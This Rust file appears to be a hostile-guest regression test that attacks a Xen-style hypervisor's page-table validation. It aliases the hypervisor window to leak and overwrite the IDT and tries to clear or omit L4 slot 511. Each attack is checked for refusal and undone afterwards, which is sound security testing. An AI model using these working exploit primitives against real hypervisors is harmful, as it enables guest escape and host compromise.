//! Attacks on where the hypervisor's window may appear (issue 15, holes 1 and 4): the
//! window's L3 entry must be in the window-L3 under L4 slot 511 and nowhere else, and every
//! L4 the guest uses must keep slot 511 naming a window-L3.
//!
//! Survivable ([`run`], in the suite):
//! - an own empty L3 linked at L4 slot 0, then the IDT read (`console_io` write) and
//!   written (`xen_version(extraversion)`, 16 bytes over gate 31, a reserved vector that
//!   never fires) through its slot-0 alias. Before the fix every validated L3 got the
//!   window entry in slot 511, so `0x7F_C000_0000 + (va & 0x3FFF_FFFF)` was the window:
//!   the console printed the IDT and the gate was overwritten (ring 0 at a guest address
//!   is one gate away, SMEP being off). Now slot 511 of that L3 is the guest's: EFAULT;
//! - the boot window-L3 linked at L4 slot 1 (a second window alias before the fix);
//! - L4 slot 511 of the live L4 pointed at a pinned plain L3 (a copy of the window-L3, so
//!   that the guest would survive it: before the fix the copy got the window entry too);
//! - `MMUEXT_PIN_L4_TABLE` of an L4 whose slot 511 is empty;
//! - slot 511 cleared in a pinned L4 that is not loaded.
//!
//! Fatal before the fix, refused after it ([`clear_live_window`],
//! [`new_baseptr_without_window`], [`new_user_baseptr_without_window`], run one per boot
//! by [`crate::fatal`]): clearing slot 511 of the live L4, and loading an L4 without slot
//! 511 as the kernel's or (followed by an `iret` to user mode) the user's top-level table.
//! Each made the hypervisor lose its own mappings at the next instruction: a triple fault,
//! QEMU gone with no report. Each is refused now; the guest reports that and powers off.
//!
//! Tables are built in the spare frames of [`Targets`] (0 to 3, in this module only) while
//! still writable, then mapped read-only before the hypervisor sees them. Everything an
//! attack links or pins is undone when the hypervisor wrongly accepts it. This module must
//! never change a mapping the program uses, except through an attack that must be refused.

use core::arch::{asm, global_asm};

use guest_rt::abi::arch_x86::{FLAT_USER_CS64, FLAT_USER_SS64};
use guest_rt::abi::hypercall::{
    ConsoleIoOp, Hypercall, MmuUpdateCmd, MmuextCmd, ShutdownReason, XenVersionOp,
};
use guest_rt::abi::hypercall_page::stub_offset;
use guest_rt::abi::ids::{DomId, Mfn};
use guest_rt::abi::mmu::{MmuUpdate, MmuextOp, UVMF_INVLPG, UVMF_LOCAL};
use guest_rt::hypercall::{hypercall2, hypercall3, hypercall4, shutdown};
use guest_rt::layout::{PTE_ADDRESS_MASK, PTE_PRESENT, PTE_USER, PTE_WRITABLE};
use guest_rt::println;

use crate::targets::{Frame, Table, Targets, HYPERVISOR_SLOT};
use crate::verdict::{Outcome, Tally};

/// Entries in a page table.
const ENTRIES: usize = 512;
/// The L4 slot where the guest links an own L3 to look for the window's alias.
const ALIAS_SLOT: usize = 0;
/// Another L4 slot, where the boot window-L3 must not be linked.
const OTHER_SLOT: usize = 1;
/// The part of an address one L4 slot covers (2^39 - 1).
const IN_SLOT: u64 = (1 << 39) - 1;
/// Bytes of hypervisor memory the console read asks for.
const LEAK_BYTES: u64 = 64;
/// The IDT gate overwritten through the alias: vector 31, reserved by Intel, never raised.
const HARMLESS_GATE: u64 = 31;
/// Bytes per 64-bit IDT gate (and the size of `xen_version(extraversion)`'s buffer).
const GATE_BYTES: u64 = 16;
/// `DOMID_SELF` as a register argument.
const SELF: u64 = DomId::SELF.0 as u64;
/// rflags the user program would start with: events on, reserved bit 1.
const USER_RFLAGS: u64 = 0x202;
/// The spare frames this module uses, by purpose.
const SPARE_ALIAS_L3: u64 = 0;
const SPARE_PLAIN_L3: u64 = 1;
const SPARE_L4_WITHOUT_WINDOW: u64 = 2;
const SPARE_L4_COPY: u64 = 3;

global_asm!(
    ".pushsection .text.hostile_window_user,\"ax\",@progbits",
    // extern "C" fn hostile_window_enter_user(rip: u64, rsp: u64) -> !: the iret
    // hypercall into guest user mode (cs RPL 3), which loads the user base pointer.
    ".globl hostile_window_enter_user",
    "hostile_window_enter_user:",
    // iret frame, top down: ss, rsp, rflags, cs, rip, flags; the stub adds rcx, r11, rax.
    "    push {user_ss}",
    "    push rsi",
    "    push {user_rflags}",
    "    push {user_cs}",
    "    push rdi",
    "    push 0",
    "    xor eax, eax",
    "    xor ecx, ecx",
    "    xor r11d, r11d",
    "    jmp guest_rt_hypercall_page + {iret_stub}",
    ".popsection",
    user_ss = const FLAT_USER_SS64,
    user_cs = const FLAT_USER_CS64,
    user_rflags = const USER_RFLAGS,
    iret_stub = const stub_offset(Hypercall::Iret),
);

extern "C" {
    fn hostile_window_enter_user(rip: u64, rsp: u64) -> !;
}

/// Runs the survivable window attacks.
pub fn run(tally: &mut Tally, targets: &Targets) {
    alias_of_the_idt(tally, targets);
    window_l3_at_another_slot(tally, targets);
    plain_l3_at_slot_511(tally, targets);
    pin_l4_without_window(tally, targets);
    clear_window_of_pinned_l4(tally, targets);
}

/// Links an own empty L3 at L4 slot 0 and reads and writes the IDT through its alias.
fn alias_of_the_idt(tally: &mut Tally, targets: &Targets) {
    let l3 = match own_table(targets, SPARE_ALIAS_L3, |_| {}) {
        Ok(mfn) => mfn,
        Err(outcome) => {
            tally.record(format_args!("window alias of the IDT"), outcome);
            return;
        }
    };
    let l4 = &targets.l4;
    let linked = update_one(l4.entry_address(ALIAS_SLOT), table_entry(l3));
    if linked < 0 {
        let outcome = not_prepared("link an own empty L3 at L4 slot 0", linked);
        tally.record(format_args!("window alias of the IDT"), outcome);
        return;
    }
    let idt = idt_base();
    let alias = (ALIAS_SLOT as u64) << 39 | (idt & IN_SLOT);
    println!(
        "hostile: the IDT is at {idt:#x}, its slot-{ALIAS_SLOT} alias {alias:#x}; a console \
         line of {LEAK_BYTES} bytes from the alias follows if the hypervisor reads it:"
    );
    let write = u64::from(ConsoleIoOp::Write.raw());
    // SAFETY: the hypervisor only reads the buffer; it must refuse, as the alias is the
    // guest's own (unmapped) memory now.
    let ret = unsafe { hypercall3(Hypercall::ConsoleIo, write, LEAK_BYTES, alias) };
    println!();
    tally.record(
        format_args!("console write from the slot-{ALIAS_SLOT} alias of the IDT ({alias:#x})"),
        Outcome::of_call(ret),
    );
    let gate = alias + HARMLESS_GATE * GATE_BYTES;
    let extraversion = u64::from(XenVersionOp::Extraversion.raw());
    // SAFETY: the hypervisor writes 16 bytes there; the guest has nothing mapped there, and
    // through the old alias they landed on IDT gate 31, which never fires.
    let ret = unsafe { hypercall2(Hypercall::XenVersion, extraversion, gate) };
    tally.record(
        format_args!("xen_version(extraversion) into the alias of IDT gate 31 ({gate:#x})"),
        Outcome::of_call(ret),
    );
    update_one(l4.entry_address(ALIAS_SLOT), 0);
}

/// Links the boot window-L3 at L4 slot 1 as well.
fn window_l3_at_another_slot(tally: &mut Tally, targets: &Targets) {
    let l4 = &targets.l4;
    let window_l3 = l4.entry(HYPERVISOR_SLOT);
    let ret = update_one(l4.entry_address(OTHER_SLOT), window_l3);
    let attack = format_args!("link the boot window-L3 at L4 slot {OTHER_SLOT} as well");
    if tally.record(attack, Outcome::of_call(ret)) {
        update_one(l4.entry_address(OTHER_SLOT), 0);
    }
}

/// Pins a copy of the window-L3 as a plain L3 and points slot 511 of the live L4 at it.
fn plain_l3_at_slot_511(tally: &mut Tally, targets: &Targets) {
    let attack = "point slot 511 of the live L4 at a pinned plain L3 (a copy of the window-L3)";
    let window_l3 = &targets.window_l3;
    let copy = match own_table(targets, SPARE_PLAIN_L3, |table| {
        copy_entries(table, window_l3, |index| index != HYPERVISOR_SLOT)
    }) {
        Ok(mfn) => mfn,
        Err(outcome) => {
            tally.record(format_args!("{attack}"), outcome);
            return;
        }
    };
    let pinned = extended(MmuextCmd::PinL3Table, copy);
    if pinned < 0 {
        let outcome = not_prepared("pin a copy of the window-L3 as an L3", pinned);
        tally.record(format_args!("{attack}"), outcome);
        return;
    }
    let l4 = &targets.l4;
    let original = l4.entry(HYPERVISOR_SLOT);
    let ret = update_one(l4.entry_address(HYPERVISOR_SLOT), table_entry(copy));
    if tally.record(format_args!("{attack}"), Outcome::of_call(ret)) {
        update_one(l4.entry_address(HYPERVISOR_SLOT), original);
    }
    extended(MmuextCmd::UnpinTable, copy);
}

/// Pins, as an L4, a table whose slot 511 is empty.
fn pin_l4_without_window(tally: &mut Tally, targets: &Targets) {
    let attack = "pin an L4 whose slot 511 is empty";
    let l4 = match l4_without_window(targets) {
        Ok(mfn) => mfn,
        Err(outcome) => {
            tally.record(format_args!("{attack}"), outcome);
            return;
        }
    };
    let ret = extended(MmuextCmd::PinL4Table, l4);
    if tally.record(format_args!("{attack}"), Outcome::of_call(ret)) {
        extended(MmuextCmd::UnpinTable, l4);
    }
}

/// Pins a copy of the boot L4, then clears its slot 511.
fn clear_window_of_pinned_l4(tally: &mut Tally, targets: &Targets) {
    let attack = "clear slot 511 of a pinned L4 that is not loaded";
    let boot_l4 = &targets.l4;
    let copy = match own_table(targets, SPARE_L4_COPY, |table| {
        copy_entries(table, boot_l4, |_| true)
    }) {
        Ok(mfn) => mfn,
        Err(outcome) => {
            tally.record(format_args!("{attack}"), outcome);
            return;
        }
    };
    let pinned = extended(MmuextCmd::PinL4Table, copy);
    if pinned < 0 {
        let outcome = not_prepared("pin a copy of the boot L4", pinned);
        tally.record(format_args!("{attack}"), outcome);
        return;
    }
    let slot = copy.address() + 8 * HYPERVISOR_SLOT as u64;
    let ret = update_one(slot, 0);
    tally.record(format_args!("{attack}"), Outcome::of_call(ret));
    extended(MmuextCmd::UnpinTable, copy);
}

/// Fatal attack: clears slot 511 of the live L4 with `mmu_update`.
pub fn clear_live_window(targets: &Targets) -> ! {
    let name = "clear_l4_window";
    println!("hostile: attack {name}: mmu_update clearing slot 511 of the live L4");
    let ret = update_one(targets.l4.entry_address(HYPERVISOR_SLOT), 0);
    end_fatal(name, ret)
}

/// Fatal attack: `MMUEXT_NEW_BASEPTR` to an L4 whose slot 511 is empty.
pub fn new_baseptr_without_window(targets: &Targets) -> ! {
    let name = "new_baseptr_no_window";
    let l4 = prepared_or_crash(name, l4_without_window(targets));
    println!("hostile: attack {name}: new_baseptr to an L4 whose slot 511 is empty");
    end_fatal(name, extended(MmuextCmd::NewBaseptr, l4))
}

/// Fatal attack: `MMUEXT_NEW_USER_BASEPTR` to an L4 whose slot 511 is empty, then an
/// `iret` to user mode, which loads it.
pub fn new_user_baseptr_without_window(targets: &Targets) -> ! {
    let name = "new_user_baseptr_no_window";
    let l4 = prepared_or_crash(name, l4_without_window(targets));
    println!(
        "hostile: attack {name}: new_user_baseptr to an L4 whose slot 511 is empty, then iret \
         to user mode"
    );
    let ret = extended(MmuextCmd::NewUserBaseptr, l4);
    if ret < 0 {
        end_fatal(name, ret);
    }
    println!("hostile: attack {name}: new_user_baseptr accepted (BUG); returning to user mode");
    // SAFETY: the user program is never meant to run: the user tables have no slot 511,
    // so the hypervisor must not even get there. Whatever happens ends the domain.
    unsafe { hostile_window_enter_user(targets.guard.va, targets.guard.va + 4096) }
}

/// Ends a fatal attack that returned `ret`: refused (power off) or accepted (crash).
fn end_fatal(name: &str, ret: i64) -> ! {
    match Outcome::of_call(ret) {
        Outcome::Succeeded => {
            println!("hostile: attack {name}: SUCCEEDED (BUG)");
            shutdown(ShutdownReason::Crash)
        }
        outcome => {
            println!("hostile: attack {name}: {outcome}");
            shutdown(ShutdownReason::Poweroff)
        }
    }
}

/// The table a fatal attack needs, or the domain crashes saying why not.
fn prepared_or_crash(name: &str, table: Result<Mfn, Outcome>) -> Mfn {
    table.unwrap_or_else(|outcome| {
        println!("hostile: attack {name}: {outcome}");
        shutdown(ShutdownReason::Crash)
    })
}

/// An L4 in the spare frame for it: empty (the boot L4 maps only slot 511 and the
/// hypervisor's slots, which validation fills).
fn l4_without_window(targets: &Targets) -> Result<Mfn, Outcome> {
    own_table(targets, SPARE_L4_WITHOUT_WINDOW, |_| {})
}

/// Spare frame `n`, zeroed, filled by `fill` and mapped read-only: ready to be a table.
fn own_table(targets: &Targets, n: u64, fill: impl FnOnce(*mut u64)) -> Result<Mfn, Outcome> {
    let frame: Frame = targets.spare_frame(n).ok_or(Outcome::NotPrepared {
        step: "take a spare frame",
        errno: 0,
    })?;
    let table = frame.va as *mut u64;
    // SAFETY: a spare frame is mapped writable and used by nothing else.
    unsafe { core::ptr::write_bytes(table, 0, ENTRIES) };
    fill(table);
    let read_only = (frame.mfn.address() & PTE_ADDRESS_MASK) | PTE_PRESENT | PTE_USER;
    // SAFETY: the spare frame's mapping loses its write permission; nothing writes it.
    let ret = unsafe {
        hypercall3(
            Hypercall::UpdateVaMapping,
            frame.va,
            read_only,
            UVMF_INVLPG | UVMF_LOCAL,
        )
    };
    if ret < 0 {
        return Err(not_prepared("map a spare frame read-only", ret));
    }
    Ok(frame.mfn)
}

/// Copies the entries of `from` whose index `keep` accepts into the writable table at
/// `to`.
fn copy_entries(to: *mut u64, from: &Table, keep: impl Fn(usize) -> bool) {
    for index in (0..ENTRIES).filter(|&index| keep(index)) {
        // SAFETY: `to` is a writable page of ENTRIES words (see `own_table`).
        unsafe { to.add(index).write_volatile(from.entry(index)) };
    }
}

/// A present, writable entry naming the table `mfn`.
const fn table_entry(mfn: Mfn) -> u64 {
    (mfn.address() & PTE_ADDRESS_MASK) | PTE_PRESENT | PTE_WRITABLE | PTE_USER
}

/// A preparation step that failed with rax `ret`.
const fn not_prepared(step: &'static str, ret: i64) -> Outcome {
    Outcome::NotPrepared {
        step,
        errno: ret.unsigned_abs(),
    }
}

/// One `mmu_update` of the entry at machine address `entry`; rax after it.
fn update_one(entry: u64, val: u64) -> i64 {
    let request = MmuUpdate::new(MmuUpdateCmd::NormalPtUpdate, entry, val);
    let mut done = 0u32;
    // SAFETY: every update here either links or unlinks a table the program does not use,
    // or must be refused (and is undone by the caller when it is not).
    unsafe {
        hypercall4(
            Hypercall::MmuUpdate,
            &raw const request as u64,
            1,
            &raw mut done as u64,
            SELF,
        )
    }
}

/// One `mmuext_op` of `cmd` on `mfn`; rax after it.
fn extended(cmd: MmuextCmd, mfn: Mfn) -> i64 {
    let op = MmuextOp::with_mfn(cmd, mfn);
    let mut done = 0u32;
    // SAFETY: pins and unpins change no mapping; the base pointers set here must be
    // refused (an accepted one ends the domain, which is what the attack reports).
    unsafe {
        hypercall4(
            Hypercall::MmuextOp,
            &raw const op as u64,
            1,
            &raw mut done as u64,
            SELF,
        )
    }
}

/// The IDT's linear address (`sidt`, which ring 3 may run unless CR4.UMIP is set).
fn idt_base() -> u64 {
    let mut descriptor = [0u8; 10];
    // SAFETY: `sidt` stores 10 bytes (limit, base) into the buffer, which holds them.
    unsafe { asm!("sidt [{}]", in(reg) descriptor.as_mut_ptr(), options(nostack)) };
    let mut base = [0u8; 8];
    base.copy_from_slice(&descriptor[2..]);
    u64::from_le_bytes(base)
}
